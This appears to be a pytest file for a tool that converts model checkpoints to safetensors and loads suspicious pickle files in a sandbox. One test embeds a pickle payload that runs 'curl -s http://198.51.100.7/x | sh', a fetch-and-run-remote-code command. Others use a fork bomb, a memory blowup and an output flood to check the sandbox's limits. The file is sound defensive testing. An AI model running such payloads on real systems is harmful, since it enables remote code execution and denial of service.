"""As a new user would: convert old checkpoints, load a suspicious file, serve under the guard, replace a byte."""

from __future__ import annotations

import json
import pickle

import pytest
import torch

from tests.corpus.payloads import Does
from tests.corpus.runs import ISOLATED
from weighbridge.cli import main


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_convert_says_what_it_did_and_an_attestation_binds_both_digests(here, capsys):
    torch.save({"a": torch.ones(2, 3), "b": {"epoch": 3}}, "pytorch_model.bin")
    assert main(["keys", "new", "release"]) == 0
    assert main(["convert", "pytorch_model.bin", "--key", "release", "--report", "report.json"]) == 0
    out = capsys.readouterr().out
    assert "pytorch_model.bin (torch zip) -> model.safetensors" in out
    assert "left behind, no tensor: b.epoch: 3" in out
    assert "nothing was executed" in out
    attested = ["--attestation", "model.safetensors.conversion.att", "--key", "release.pub", "--require", "conversion"]
    assert main(["verify", "model.safetensors", *attested]) == 0
    assert "converted from pytorch_model.bin" in capsys.readouterr().out
    report = json.loads((here / "report.json").read_text())
    assert report["files"][0]["left"] == [["b.epoch", "3"]]
    with (here / "model.safetensors").open("ab") as file:
        file.write(b"x")
    assert main(["verify", "model.safetensors", *attested]) == 1


def test_convert_refuses_by_name_and_partial_lists(here, capsys):
    torch.save({"a": torch.ones(2), "c": torch.ones(2, dtype=torch.complex128)}, "m.pt")
    assert main(["convert", "m.pt"]) == 2
    assert "m.pt: c: its type torch.ComplexDoubleStorage has no form in safetensors" in capsys.readouterr().err
    assert not (here / "m.safetensors").exists()
    assert main(["convert", "m.pt", "--partial"]) == 3
    assert main(["convert", "m.pt", "--partial"]) == 2
    assert "exists already" in capsys.readouterr().err
    assert main(["convert", "m.pt", "--no-digest", "--key", "release"]) == 2


@ISOLATED
def test_load_reports_what_was_tried_and_exits_with_1(here, capsys):
    (here / "m.pkl").write_bytes(pickle.dumps(Does("import os; os.system('curl -s http://198.51.100.7/x | sh')"), 2))
    assert main(["load", "--observe", "m.pkl"]) == 1
    out = capsys.readouterr().out
    assert "critical[RUN-001]: tried to run sh -c curl -s http://198.51.100.7/x | sh" in out
    assert "foretold by PKL-001: the pickle calls" in out


@ISOLATED
@pytest.mark.parametrize(
    ("code", "told"),
    [
        ("while True: pass", "more than 2 s of processor time"),
        ("b = []\nwhile True: b.append(bytearray(1 << 24))", "more memory than the bound"),
        ("import time; time.sleep(60)", "did not end within 4 s"),
        ("import os\nwhile True: os.write(1, b'x' * 65536)", "wrote more than the bound"),
        ("import os\nwhile True:\n try: os.fork()\n except OSError: pass", "wanted more processes than 0"),
    ],
    ids=["processor", "memory", "time", "output", "forks"],
)
def test_load_names_the_limit_that_stopped_it(here, capsys, code, told):
    (here / "m.pkl").write_bytes(pickle.dumps(Does(code), 2))
    assert main(["load", "m.pkl", "--max-seconds", "4", "--max-processor", "2", "--max-memory", "300M"]) == 1
    assert told in capsys.readouterr().out


@ISOLATED
def test_load_takes_tensors_out(here, capsys):
    torch.save(torch.nn.Sequential(torch.nn.Linear(2, 3)), "m.pt")
    assert main(["load", "m.pt", "--tensors", "m.safetensors"]) == 0
    assert "torch.nn.modules.container.Sequential, 2 tensors" in capsys.readouterr().err
    from safetensors.torch import load_file

    assert set(load_file("m.safetensors")) == {"0.weight", "0.bias"}


def test_load_says_what_it_cannot_do(here, capsys):
    (here / "a.txt").write_text("hello")
    assert main(["load", "a.txt"]) == 2
    assert main(["load", "a.txt", "--require-layers", "concrete"]) == 2
    assert "there is no layer concrete" in capsys.readouterr().err
    assert main(["load", "a.txt", "--max-memory", "much"]) == 2
    assert main(["load", "missing.pkl"]) == 2


@ISOLATED
def test_the_public_functions(here):
    import weighbridge

    torch.save({"a": torch.ones(2, 3)}, "m.pt")
    made = weighbridge.convert("m.pt", "m.safetensors")
    assert made.tensors == {"a": ("F32", (2, 3))}
    with weighbridge.load("m.pt") as loaded:
        assert loaded.kind == "builtins.dict"
        assert loaded.read("a") == torch.ones(2, 3).numpy().tobytes()
        with pytest.raises(KeyError):
            loaded.read("b")


@ISOLATED
def test_doctor_tries_the_sandbox(capsys):
    assert main(["doctor"]) == 0
    out = capsys.readouterr().out
    assert "sandbox: rlimits, capabilities, no-new-privs, landlock" in out
    assert "extra tensors: present" in out


@ISOLATED
def test_a_folder_stands_for_the_files_in_it_that_hold_code(here, capsys):
    (here / "models").mkdir()
    torch.save({"a": torch.ones(2)}, "models/m.pt")
    (here / "models/n.pkl").write_bytes(pickle.dumps({"n": 1}))
    (here / "models/config.json").write_text("{}")
    assert main(["load", "models"]) == 0
    told = capsys.readouterr()
    assert "models/m.pt: builtins.dict, 1 tensor" in told.err
    assert "models/n.pkl: builtins.dict, 0 tensors" in told.err
    assert "config.json" not in told.err
    assert main(["load", "models", "--tensors", "x.safetensors"]) == 2
    (here / "empty").mkdir()
    assert main(["load", "empty"]) == 2
